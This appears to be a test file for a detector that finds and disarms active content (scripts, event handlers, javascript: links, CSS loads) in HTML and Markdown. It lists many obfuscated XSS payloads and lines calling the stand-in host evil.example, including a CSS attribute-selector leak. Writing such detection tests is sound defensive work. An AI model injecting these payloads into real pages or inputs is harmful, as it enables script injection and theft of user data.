/** Active content as browsers and renderers of Markdown would find it (guarantee OU6). */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { activeIn, disarmed, runs } from '../../src/detect/active.ts';
import { cpuMs } from '../fixtures/cpu.ts';

const kinds = (text: string, html = true) => activeIn(text, html).map(({ kind }) => kind);

describe('active in HTML', () => {
  it.each([
    ['<script>alert(1)</script>', 'script'],
    ['<ScRiPt\n src=//evil.example>', 'script'],
    ['<script/x>', 'script'],
    ['<svg><script href="data:,alert(1)"/></svg>', 'script'],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', 'script'],
    ['<img src=x onerror=alert(1)>', 'handler'],
    ['<img/src="x"/onerror="alert(1)">', 'handler'],
    ['<IMG SRC=x OnError\n=\nalert(1)>', 'handler'],
    ['<x onclick=alert(1)>', 'handler'],
    ['<a title="a>b" onfocus=x autofocus>', 'handler'],
    ['<svg onload=alert(1)', 'handler'],
    ['<details open ontoggle=alert(1)>', 'handler'],
    ['<div title=\'" onclick="\' onwheel=x>', 'handler'],
    ['<b x=<img src=x onerror=alert(1)>', 'handler'],
    ['<a href="javascript:alert(1)">x</a>', 'script'],
    ['<a href=" java\tscript\n:alert(1)">x</a>', 'script'],
    ['<a href="java&#x73;cript&colon;alert(1)">x</a>', 'script'],
    ['<a href="&#0000106avascript:alert(1)">x</a>', 'script'],
    [`<a href="${' '.repeat(5000)}javascript:alert(1)">x</a>`, 'script'],
    ['<svg><a xlink:href="vbscript:x">', 'script'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', 'script'],
    ['<use href="data:image/svg+xml,<svg/>">', 'script'],
    ['<animate attributeName=href to=x>', 'script'],
    ['<set attributeName="xlink:href" to=x>', 'script'],
    ['<iframe src=https://evil.example>', 'frame'],
    ['<object data=x>', 'frame'],
    ['<embed src=x>', 'frame'],
    ['<div srcdoc=x>', 'frame'],
    ['<form action=https://evil.example>', 'form'],
    ['<button formaction=//evil.example>', 'form'],
    ['<base href=//evil.example>', 'redirect'],
    ['<meta http-equiv="&#114;efresh" content="0;url=//evil.example">', 'redirect'],
    ['<link rel=stylesheet href=//evil.example>', 'load'],
    ['<link href=x rel="dns-prefetch">', 'load'],
    ['<style>@import "//evil.example";</style>', 'style'],
    ['<style>a[value^=x]{background:url(https://evil.example/x)}</style>', 'style'],
    ['<style>a{background:u\\72l(//evil.example)}', 'style'],
    ['<p style="background:url(//evil.example)">', 'style'],
    ['<p style="background:image-set(\'//evil.example\' 1x)">', 'style'],
    ['<?xml-stylesheet href="x.xsl"?>', 'style'],
    [
      '<!DOCTYPE x [<!ENTITY a "&#60;script xmlns=\'http://www.w3.org/1999/xhtml\'>x&#60;/script>">]><x>&a;</x>',
      'script',
    ],
    ['<!DOCTYPE svg [<!ATTLIST svg onload CDATA "x">]><svg/>', 'script'],
    ['<javascript:alert(1)>', 'script'],
  ])('%s', (text, kind) => {
    expect(kinds(text)).toContain(kind);
    const out = disarmed(text, activeIn(text, true));
    expect(kinds(out)).toEqual([]);
  });

  it.each([
    '<!doctype html><html><head><meta charset=utf-8><title>x</title></head><body><h1>x</h1></body></html>',
    '<a href="https://example.com/?a=javascript:x">x</a><img src=a.png alt="onerror=x">',
    '<style>p { color: red; background: url(img/a.png) } .i:before { content: "\\f101" }</style><p style="color:red">',
    '<style>p { background: url("data:image/png;base64,AA==") }</style>',
    '<svg viewBox="0 0 1 1"><path d="M0 0"/><use href="#a"/></svg>',
    '<link rel=canonical href=https://example.com><meta name=viewport content=x>',
    '<p>if (a <b && c> d) online = 1</p>',
    'List<String> x = new Map<K, V>(); a<b; #include <stdio.h>',
    '</script></form>',
    '&lt;script>alert(1)&lt;/script>',
    '<!-- a comment -->',
    '< script >alert(1)',
    '<img src="data:image/svg+xml,x">',
    '<option only="x" online=1>',
  ])('not: %s', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it('says that of nothing that it made harmless, and changes nothing else', () => {
    const piece = fc.constantFrom(
      ...'< </ > " \' = / ` ``` ~~~ & &#x6a; script img onerror href javascript: style url( // svg a x : \\ \n ]( ]: ( ) \t <!-- --> - 1. |'.split(
        ' ',
      ),
      ' ',
      '\n\n',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.boolean(), (pieces, html) => {
        const text = pieces.join('');
        const found = activeIn(text, html);
        const out = disarmed(text, found);
        if (html) expect(activeIn(out, html)).toEqual([]);
        expect(out.replaceAll('&lt;', '<').replaceAll('about:blank#doorward-removed-', '')).toBe(
          text.replaceAll('&lt;', '<'),
        );
      }),
    );
  });

  it.each([
    ['tags', '<a '],
    ['letters', '<a'],
    ['quotes', '<a "'],
    ['values', '<a b="'],
    ['open values', `<a b='x" `],
    ['sheets', '<style>url(a'],
    ['styles', '<p style="url(aaaa'],
    ['links', ']('],
    ['blanks', '](         '],
    ['references', '<a href="&#x00000000000000000009;'],
    ['backticks', '` `` <b '],
    ['fences', '```\n'],
    ['names', `<${'a'.repeat(100)}`],
  ])('takes no longer for many %s than for as much text', (_, piece) => {
    const text = `<script>${piece.repeat(Math.trunc(262_144 / piece.length))}`;
    expect(cpuMs(() => activeIn(text, false))).toBeLessThan(150);
  });
});

describe('active in Markdown', () => {
  it.each([
    '[x](javascript:alert(1))',
    '[x]( <java\nscript:alert(1)>)',
    '[x](javascript\\:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '![x](data:text/html,<b>)',
    '[x]: vbscript:x',
    '<javascript:alert(1)>',
    '<data:text/html;base64,PHNjcmlwdD4=>',
  ])('%s', (text) => {
    expect(kinds(text, false)).toContain('script');
    expect(kinds(disarmed(text, activeIn(text, false)), false)).toEqual([]);
  });

  it.each([
    'Use the `<script>` tag, ``a ` <img onerror=x>`` too.',
    'See:\n\n```html\n<script>alert(1)</script>\n```\nand\n~~~~\n```\n<form>\n~~~~\n',
    'a\n```\n<iframe>\n````\nb',
    '<p>x</p>\n\n`<script>`',
    '<details>\n\n```html\n<script>\n```\n\n</details>',
    '[x](https://example.com) [y]: not',
  ])('not in code: %s', (text) => {
    expect(kinds(text, false)).toEqual([]);
  });

  it.each([
    ['behind a fence', '```\n```\n<script>'],
    ['in a fence that does not end', '```\n<script>'],
    ['in raw HTML', '<div>\n```\n<script>\n```\n'],
    ['in raw HTML that blank lines do not end', '<pre>\n\n```\n<img src=x onerror=x>\n```\n'],
    ['in a comment that began before', '<!--\n\n```\n--><img src=x onerror=x>\n```\n'],
    ['in raw HTML of a list', '- <div>\n  ```\n  <img src=x onerror=x>\n  ```\n'],
    ['behind a fence of a list', '1. ```\n   ```\n<script>\n```\n'],
    ['behind a fence of a list with a blank line', '1. ```\n\n   ```\n<script>\n\n```\n'],
    ['behind a fence of a quote', '> ```\n<script>\n```\n'],
    ['behind an indented fence', '    ```\n<script>\n    ```\n'],
    ['behind other line ends', '~~~\rx\r~~~\r<script>\n~~~'],
    ['behind a span of two lines', 'a ` b\n`<img src=x onerror=x>`'],
    ['in a span that a tag has opened', '<a title="`"><img src=x onerror=x>`'],
    ['behind an escaped backtick', '\\`<script>`'],
    ['between other backticks', '``<script>`'],
    ['in a cell of a table', '| a | b |\n|---|---|\n| ` | <img src=x onerror=x> ` |'],
  ])('but %s', (_, text) => {
    expect(kinds(text, false)).not.toEqual([]);
  });
});

it('knows an address that runs something', () => {
  expect(['javascript:x', ' JavaScript:x', 'data:text/html,x'].map(runs)).toEqual([true, true, true]);
  expect(['https://example.com', 'file:///a', 'data:image/png;base64,AA=='].map(runs)).toEqual([false, false, false]);
});
